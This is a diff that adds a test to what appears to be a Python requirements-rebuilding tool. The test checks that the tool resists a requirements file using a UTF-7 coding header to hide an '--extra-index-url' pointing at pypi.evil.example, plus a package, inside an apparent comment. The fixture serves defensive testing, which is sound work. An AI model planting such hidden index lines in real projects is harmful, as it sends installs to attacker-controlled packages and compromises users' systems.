@@ -353,3 +353,24 @@ def test_a_known_project_from_its_own_git_keeps_the_pin_another_file_gives(
     text = (tmp_path / "out" / "requirements.txt").read_text()
     assert "# transformers @ git+https://github.com/huggingface/transformers" in text
     assert "# acme-dataloaders @ git+https://gitlab.acme-corp.example/ml/acme-dataloaders" in text
+
+
+def test_a_requirements_file_is_read_as_pip_decodes_it(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    """Round 14a F16: `# coding: utf-7` in requirements.txt: pip decodes the file by it and
+    reads an `--extra-index-url` line and a package that a UTF-8 reader sees as one comment."""
+    hidden = "+AAo---extra-index-url https://pypi.evil.example/simple+AAo-corp-x==1.0"  # +AAo-: \n
+    body = f"# coding: utf-7\nnumpy==1.24.0\n# note{hidden}\n"
+    assert "\n--extra-index-url" in body.encode().decode("utf-7")
+    repo = tmp_path / "repo"
+    repo.mkdir()
+    (repo / "requirements.txt").write_text(body)
+    (repo / "train.py").write_text("import numpy\nimport corp_x\n")
+    out = tmp_path / "out"
+    main(["env", str(repo), "--offline", "--out", str(out), "--format", "json"])
+    problems = json.loads(capsys.readouterr().out)["problems"]
+    written = (out / "requirements.txt").read_text()
+    assert not any(ln.startswith("corp-x") for ln in written.splitlines())
+    said = [p for p in problems if p.startswith("corp-x")]
+    assert said and "pypi.evil.example" in said[0] and "never resolved on your index" in said[0]
